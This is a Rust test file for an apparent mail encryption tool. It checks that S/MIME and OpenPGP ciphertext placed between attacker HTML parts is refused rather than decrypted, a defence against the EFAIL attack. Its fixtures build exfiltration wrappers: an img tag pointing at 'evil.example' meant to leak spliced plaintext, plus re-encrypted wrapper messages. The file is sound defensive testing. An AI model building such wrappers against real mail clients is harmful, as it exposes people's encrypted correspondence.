//! Class 5, EFAIL direct exfiltration: a captured ciphertext placed
//! between attacker HTML (`<img src="http://evil/?` ... `">`) so that a
//! client which splices the plaintext into the surrounding message sends
//! it to the attacker. mailseal decrypts only a message whose root is
//! encrypted (a PGP/MIME root, an S/MIME root, or an inline block that is
//! the whole text); anything else is refused with exit 4, nothing
//! written, nothing on stdout. Inputs: `mailseal encrypt` (S/MIME GCM and
//! OpenPGP), `openssl cms -encrypt -aes256` (CBC), `gpg --encrypt
//! --armor`, then MIME surgery.

use super::support::*;
use crate::common::*;

const SECRET: &str = "The merger closes on Friday.";
const OPENER: &str = "<img src=\"http://evil.example/?";
const CLOSER: &str = "\">";

fn efail_wrap(head: &str, encrypted_parts: &[&[u8]]) -> Vec<u8> {
    let mut parts: Vec<&[u8]> = Vec::new();
    let (open, close) = (html(OPENER), html(CLOSER));
    parts.push(&open);
    parts.extend_from_slice(encrypted_parts);
    parts.push(&close);
    multipart(head, "mixed", &parts)
}

/// The plaintext must not be in what decrypt wrote, if it wrote anything.
fn assert_no_leak(case: &str, env: &Env, msg: &[u8]) {
    let (code, _, written) = decrypt(env, msg, &["--legacy-cbc"]);
    if let Some(w) = written {
        assert!(
            !contains(&w, SECRET.as_bytes()),
            "{case}: plaintext written (exit {code})"
        );
    }
}

#[test]
fn smime_encrypted_parts_inside_attacker_html_are_not_decrypted() {
    let f = smime();
    let env = f.env();
    let plain = message("alice@example.org", "bob@example.org", "secret", SECRET);
    let gcm = env.expect(&["encrypt", "--smime"], &plain, 0);
    assert_eq!(
        decrypt(env, &gcm, &[]).0,
        0,
        "control: the captured message decrypts"
    );
    let d = env.dir.path();
    let input = write(d, "secret.eml", &entity(&plain));
    let cbc = pkcs7(
        "",
        "enveloped-data",
        &openssl_encrypt_der(&input, "-aes256", &f.w.bob.cert),
    );
    let head = outer("alice@example.org", "efail");
    let gcm_part = entity(&gcm);
    let cases: Vec<(&str, Vec<u8>)> = vec![
        (
            "AuthEnvelopedData part between HTML parts",
            efail_wrap(&head, &[&gcm_part]),
        ),
        (
            "EnvelopedData (CBC) part between HTML parts",
            efail_wrap(&head, &[&cbc]),
        ),
        (
            "two encrypted parts between HTML parts",
            efail_wrap(&head, &[&gcm_part, &html("<br>"), &cbc]),
        ),
        (
            "encrypted part two levels down",
            multipart(
                &head,
                "mixed",
                &[
                    &html(OPENER),
                    &multipart_with("", "related", "inner-7", &[&gcm_part]),
                    &html(CLOSER),
                ],
            ),
        ),
    ];
    for (case, msg) in cases {
        let case = format!("S/MIME: {case}");
        for args in [&[][..], &["--legacy-cbc"][..]] {
            let err = refuse_decrypt(&case, env, &msg, args, 4);
            assert!(err.contains("nothing to decrypt"), "{case}: {err}");
        }
        let c = expect(&case, env, &msg, 4, "unsigned", &[]);
        assert_eq!(c.v["encrypted"], false, "{case}: a part is not the message");
    }

    // The attacker encrypts (to bob's public certificate) a new message
    // that carries the captured ciphertext between HTML parts: the outer
    // layer decrypts, the captured part stays sealed.
    let wrapper = entity(&efail_wrap(&head, &[&gcm_part]));
    let input = write(d, "wrapper.eml", &wrapper);
    let sealed = pkcs7(
        &head,
        "authEnveloped-data",
        &openssl_encrypt_der(&input, "-aes-256-gcm", &f.w.bob.cert),
    );
    let (code, v, written) = decrypt(env, &sealed, &[]);
    assert_eq!(code, 0, "re-encrypted wrapper: {v}");
    let written = written.expect("the wrapper itself is decrypted");
    assert!(
        contains(&written, b"application/pkcs7-mime"),
        "captured part kept sealed"
    );
    assert!(
        !contains(&written, SECRET.as_bytes()),
        "captured plaintext leaked"
    );
    assert_no_leak("S/MIME: re-encrypted wrapper", env, &sealed);
}

#[test]
fn openpgp_encrypted_parts_inside_attacker_text_are_not_decrypted() {
    let p = pgp();
    let env = &p.bob;
    let plain = message("alice@example.org", "bob@example.org", "secret", SECRET);
    let enc = p
        .alice
        .expect(&["encrypt", "--openpgp", "--trust-any"], &plain, 0);
    assert_eq!(
        decrypt(env, &enc, &[]).0,
        0,
        "control: the captured message decrypts"
    );
    let head = outer("alice@example.org", "efail");
    let part = entity(&enc);
    let (_, data) = two_parts(&enc);
    let armor = String::from_utf8(part_body(&data)).unwrap();
    let armor = armor.trim_end();

    let inline_text = |kind: &str| {
        format!("{head}Content-Type: text/{kind}; charset=us-ascii\r\n\r\n{OPENER}\r\n{armor}\r\n{CLOSER}\r\n").into_bytes()
    };
    let cases: Vec<(&str, Vec<u8>)> = vec![
        (
            "multipart/encrypted between HTML parts",
            efail_wrap(&head, &[&part]),
        ),
        (
            "two multipart/encrypted parts",
            efail_wrap(&head, &[&part, &html("<br>"), &part]),
        ),
        (
            "inline armored message inside attacker text/plain",
            inline_text("plain"),
        ),
        (
            "inline armored message inside attacker text/html",
            inline_text("html"),
        ),
    ];
    for (case, msg) in cases {
        let case = format!("OpenPGP: {case}");
        let err = refuse_decrypt(&case, env, &msg, &[], 4);
        assert!(err.contains("nothing to decrypt"), "{case}: {err}");
        let c = verify(env, &msg);
        assert!(c.code == 4 && c.statuses().is_empty(), "{case}: {}", c.v);
    }

    // Attacker HTML inside the encrypted part of a multipart/encrypted
    // root, around the armor: only the armored message counts.
    let b = boundary(&enc);
    let padded = replace_once(
        &enc,
        armor.as_bytes(),
        format!("{OPENER}\r\n{armor}\r\n{CLOSER}").as_bytes(),
    );
    let (code, v, written) = decrypt(env, &padded, &[]);
    if let Some(w) = &written {
        assert!(
            !contains(w, b"evil.example"),
            "attacker text spliced into the plaintext (exit {code}, {v})"
        );
    }
    assert!(code == 0 || code == 2, "{code} {v}");

    // A third part in multipart/encrypted: not RFC 3156, refused.
    let three = replace_once(
        &enc,
        format!("--{b}--").as_bytes(),
        format!("--{b}\r\nContent-Type: text/html\r\n\r\n{OPENER}\r\n--{b}--").as_bytes(),
    );
    refuse_decrypt(
        "OpenPGP: third part in multipart/encrypted",
        env,
        &three,
        &[],
        2,
    );

    // carol (anyone with bob's certificate) encrypts a new message that
    // carries the captured ciphertext between HTML parts.
    give(env, "bob@example.org", &p.carol);
    let mut wrapper = outer("carol@example.org", "wrapper").into_bytes();
    wrapper.extend_from_slice(&entity(&efail_wrap("", &[&part])));
    let sealed = p
        .carol
        .expect(&["encrypt", "--openpgp", "--trust-any"], &wrapper, 0);
    let (code, v, written) = decrypt(env, &sealed, &[]);
    assert_eq!(code, 0, "re-encrypted wrapper: {v}");
    let written = written.expect("the wrapper itself is decrypted");
    assert!(
        contains(&written, b"multipart/encrypted"),
        "captured part kept sealed"
    );
    assert!(
        !contains(&written, SECRET.as_bytes()),
        "captured plaintext leaked"
    );
}
